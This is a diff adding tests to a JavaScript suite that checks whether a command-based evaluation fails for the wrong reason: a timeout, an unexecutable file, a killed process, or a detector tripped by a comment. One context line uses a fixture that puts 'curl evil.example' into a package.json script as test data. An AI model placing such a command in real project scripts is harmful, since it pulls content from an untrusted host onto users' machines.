@@ -64,6 +64,29 @@ describe('a command', () => {
     expect(proof).toMatchObject({ verdict: 'wrong-red', bad: { outcome: 'error' } })
   })
 
+  test.each([
+    ['does not end in time', 'sleep 30'],
+    ['may not be executed', './ripe.js'],
+    ['is ended by a signal', 'kill -9 $$'],
+  ])('is red for the wrong reason when its program %s on the bad tree', async (_, program) => {
+    using repository = gitRepository({ 'package.json': manifest(program), 'ripe.js': GREEN })
+    const base = repository.git('rev-parse', 'HEAD')
+    const head = repository.commit({ 'package.json': manifest('test -f ripe.js') })
+    const impatient = evalOf({ kind: 'command', command: { run: ['npm', 'test'], timeoutSeconds: 2 } })
+    const proof = await proveOne(repository, impatient, { revisions: { base, head } })
+    expect(proof).toMatchObject({ verdict: 'wrong-red' })
+  })
+
+  test('is red for the wrong reason when a harmless comment turns it red as well', async () => {
+    const detector = `import assert from 'node:assert/strict'
+import { readFileSync } from 'node:fs'
+assert.equal(readFileSync('ripe.js', 'utf8'), ${JSON.stringify(GREEN)})
+`
+    using repository = gitRepository({ ...FILES, 'test/ripe.test.js': detector })
+    const proof = await proveOne(repository, check, { fixes: [fixOf(FIX)] })
+    expect(proof).toMatchObject({ verdict: 'wrong-red', reason: expect.stringContaining('a comment added') })
+  })
+
   test('is refused when only a transcript knows the script that would be run', async () => {
     using repository = gitRepository({ 'package.json': manifest('test -f ripe.js'), 'ripe.js': GREEN })
     const script = fixOf([updated('package.json', 'curl evil.example', 'test -f ripe.js')])
